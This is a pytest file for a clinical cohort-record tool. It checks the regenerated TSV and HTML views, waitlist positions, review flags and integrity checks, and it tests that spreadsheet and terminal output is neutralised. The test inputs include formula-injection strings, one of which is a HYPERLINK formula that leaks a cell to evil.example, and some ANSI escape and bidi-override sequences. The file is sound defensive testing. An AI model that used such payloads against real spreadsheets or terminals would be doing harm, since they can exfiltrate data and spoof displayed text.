"""The coordinator's views of the record (cohort_record.tsv, cohort_report.html) rewritten by
every changing command; needs review, waitlists and places; inert cells and terminal text."""

from __future__ import annotations

import csv
import html as html_module
import re
import sqlite3
from pathlib import Path

import pytest
from record_helpers import NOW, put

from haicgx import cli, record
from haicgx.cohort_views import write_cohort_views
from haicgx.terminal import printable
from haicgx.tsv import cell, inert


@pytest.fixture
def db(tmp_path: Path) -> Path:
    path = tmp_path / "results" / "cohort_record.sqlite"
    for patient in ("A", "B", "C", "D"):
        put(path, patient)  # CRC has 2 places: C and D wait, in that order
    put(path, "G", site="gastric")
    return path


def tsv_rows(db: Path) -> dict[str, dict[str, str]]:
    with (db.parent / "cohort_record.tsv").open(encoding="utf-8", newline="") as handle:
        return {row["patient_id"]: row for row in csv.DictReader(handle, delimiter="\t")}


def report_text(db: Path) -> str:
    """The cohort report's visible text, one space between words."""
    html = (db.parent / "cohort_report.html").read_text(encoding="utf-8")
    body = re.sub(r"<style>.*?</style>", " ", html, flags=re.S)
    return " ".join(html_module.unescape(re.sub(r"<[^>]+>", " ", body)).split())


def run(*args: str, db: Path) -> int:
    return cli.main(["record", *args, "--db", str(db)])


def test_every_changing_command_rewrites_the_views(db: Path, capsys) -> None:
    steps = [
        (("confirm", "A", "--by", "Dr Ada"), "A", "confirmed"),
        (("confirm", "B", "--by", "Dr Ada", "--regimen", "haic_fuop", "--note", "neuropathy"),
         "B", "overridden"),
        (("release", "A", "--by", "Dr Ada", "--note", "moved away"), "A", "superseded"),
        (("promote", "C", "--by", "Dr Ada"), "C", "proposed"),
    ]  # fmt: skip
    for args, patient, status in steps:
        before = (db.parent / "cohort_record.tsv").exists() and tsv_rows(db)
        assert run(*args, db=db) == 0
        out = capsys.readouterr().out.splitlines()
        assert out[-1] == (
            f"rewrote {db.parent / 'cohort_record.tsv'} and {db.parent / 'cohort_report.html'}"
        )
        rows = tsv_rows(db)
        assert rows != before
        assert rows[patient]["status"] == status
        text = (db.parent / "cohort_record.tsv").read_text(encoding="utf-8")
        assert text == record.assignments_tsv(record.current_assignments(db))
    assert rows["A"]["withdrawn"] == "yes"
    report = report_text(db)
    assert "CRC 2 / 2 (full)" in report  # B overridden, C promoted
    assert "Waitlist, next first" in report and re.search(r"CRC 2 / 2 \(full\) D ", report)


def test_a_record_kept_elsewhere_rewrites_the_views_of_the_last_run(tmp_path: Path) -> None:
    db = tmp_path / "local" / "cohort_record.sqlite"  # e.g. the submitting host's disk
    results = tmp_path / "work" / "results"
    put(db, "A")
    (results / "patients").mkdir(parents=True)
    (db.parent / "patients").rename(results / "patients")  # published by the run
    write_cohort_views(db, results, failures={})  # the run's end notes its results folder
    assert run("confirm", "A", "--by", "Dr Ada", db=db) == 0
    assert tsv_rows(results / "x")["A"]["status"] == "confirmed"
    assert not (db.parent / "cohort_record.tsv").exists()
    # --results names another folder explicitly.
    other = tmp_path / "copy"
    other.mkdir()
    assert run("release", "A", "--by", "Dr Ada", "--note", "x", "--results", str(other), db=db) == 0
    assert tsv_rows(other / "x")["A"]["withdrawn"] == "yes"


def test_a_failed_view_rewrite_says_the_record_changed(db: Path, capsys) -> None:
    (db.parent / "cohort_report.html").mkdir()  # a folder where the report goes
    assert run("confirm", "A", "--by", "Dr Ada", db=db) == 1
    err = capsys.readouterr().err
    assert err.startswith("haicgx: error: the record was changed (A version 1: confirmed), but ")
    assert err.count("\n") == 1
    assert record.current_assignments(db)[0]["status"] == "confirmed"


def test_needs_review_shows_the_decision_and_the_new_proposal(db: Path) -> None:
    record.confirm(db, "A", by="Dr Ada", regimen_id=None, note=None, now=NOW)
    put(db, "A", vcf="v2", ranked=("haic_raltitrexed", "haic_folfox", "haic_fuop"))
    write_cohort_views(db, db.parent, failures={})  # as the run's end does
    a = tsv_rows(db)["A"]
    assert (a["version"], a["status"], a["decision_regimen_id"], a["decided_by"]) == (
        "1",
        "confirmed",
        "haic_folfox",
        "Dr Ada",
    )
    assert (a["needs_review"], a["pending_version"], a["pending_regimen_id"]) == (
        "yes",
        "2",
        "haic_raltitrexed",
    )
    report = report_text(db)
    assert "1 needing review by the board" in report
    assert (
        "A ! NEEDS REVIEW version 1: confirmed , haic_folfox by Dr Ada at 2026-11-25T10:00:00Z "
        "version 2: proposed , haic_raltitrexed"
    ) in report
    assert "needs review: confirmed, version 1, new proposal version 2" in report


def test_waitlist_positions_and_places(db: Path) -> None:
    places = record.patient_places(db)
    assert [(p, places[p].waitlist_position) for p in "ABCDG"] == [
        ("A", None),
        ("B", None),
        ("C", 1),
        ("D", 2),
        ("G", None),
    ]
    c = places["C"]
    assert (c.cohort_id, c.status, c.places_taken, c.max_patients, c.waitlist_length) == (
        "CRC",
        "waitlisted",
        2,
        2,
        2,
    )
    assert (places["G"].cohort_id, places["G"].max_patients) == ("UGI", None)
    put(db, "C", vcf="v2")  # a new version keeps the queue position
    assert record.patient_places(db)["C"].waitlist_position == 1
    record.release(db, "A", by="Dr Ada", note="withdrew")
    record.promote(db, "C", by="Dr Ada")
    put(db, "A", vcf="v2")  # back after a release: the end of the queue
    assert record.cohort_places(db)["CRC"] == {
        "taken": 2,
        "max_patients": 2,
        "waitlist": ["D", "A"],
    }
    write_cohort_views(db, db.parent, failures={})
    report = report_text(db)
    assert "CRC 2 / 2 (full) D A" in report and "UGI 1 / no limit nobody waiting" in report
    assert "waitlisted (#1 in the queue), version 1" in report  # D's line
    assert tsv_rows(db)["D"]["waitlist_position"] == "1"


def test_the_run_failures_stay_listed_when_a_command_rewrites_the_report(db: Path) -> None:
    write_cohort_views(db, db.parent, failures={"X9": "patient X9: x.vcf: unsorted"})
    assert run("confirm", "A", "--by", "Dr Ada", db=db) == 0
    assert "patient X9: x.vcf: unsorted" in report_text(db)
    write_cohort_views(db, db.parent, failures={})  # the next run: no failure
    assert "X9" not in report_text(db)


def test_the_report_says_whether_the_record_is_intact(db: Path) -> None:
    write_cohort_views(db, db.parent, failures={})
    head = record.verify(db).head
    assert f"Cohort record checked: intact: 5 versions, 5 events; chain head {head}" in (
        report_text(db)
    )
    with sqlite3.connect(db) as conn:
        conn.execute("DROP TRIGGER events_no_delete")
    write_cohort_views(db, db.parent, failures={})
    report = report_text(db)
    assert "The cohort record failed verification" in report
    assert "trigger events_no_delete (an append-only guard) is missing" in report


# --- formula cells ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1 cycle", "'+1 cycle"),
        ("-1 cycle", "'-1 cycle"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("-0.5", "-0.5"),
        ("+3", "+3"),
        ("-1e-05", "-1e-05"),
        ("-.5", "-.5"),
        ("neuropathy", "neuropathy"),
        ("a=b", "a=b"),
    ],
)
def test_formula_cells_are_written_inert(text: str, written: str) -> None:
    assert inert(text) == written


def test_cells_keep_numbers_and_one_line() -> None:
    assert [cell(-0.5), cell(3), cell(False), cell("=1\t+2\n3")] == ["-0.5", "3", "no", "'=1 +2 3"]


def test_decision_text_is_exported_inert(db: Path, tmp_path: Path) -> None:
    note = '=HYPERLINK("http://evil.example/?"&A1,"details")'
    record.confirm(db, "A", by="@board", regimen_id="haic_fuop", note=note)
    out = tmp_path / "export.tsv"
    record.export_tsv(db, out)
    with out.open(encoding="utf-8", newline="") as handle:
        row = next(csv.DictReader(handle, delimiter="\t"))
    assert (row["decision_note"], row["decided_by"]) == ("'" + note, "'@board")
    assert row["version"] == "1"


# --- terminal text ----------------------------------------------------------------------------


def test_printable_escapes_controls_and_bidi_overrides() -> None:
    hidden = "".join(chr(c) for c in [*range(0x20), 0x7F, *range(0x80, 0xA0)])
    bidi = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    out = printable(f"a{hidden}b{bidi}c é ü 中")
    assert out.isprintable() and out.startswith("a\\x00\\x01") and "\\x1b" in out
    assert "\\u202e" in out and "\\u2069" in out and out.endswith("c é ü 中")


def test_record_commands_print_controls_and_bidi_inert(db: Path, capsys) -> None:
    by, note = "Dr \u202eadA", "fine\x1b[2J\x1b[31m"
    assert run("confirm", "A", "--by", by, "--regimen", "haic_fuop", "--note", note, db=db) == 0
    assert run("show", "A", db=db) == 0
    out = capsys.readouterr().out
    assert "\u202e" not in out and "\x1b" not in out
    assert "Dr \\u202eadA" in out and "fine\\x1b[2J\\x1b[31m" in out
    assert run("confirm", "P\x1b[31m\u2066", "--by", by, db=db) == 1
    err = capsys.readouterr().err
    assert err == "haicgx: error: patient P\\x1b[31m\\u2066 is not in the cohort record\n"
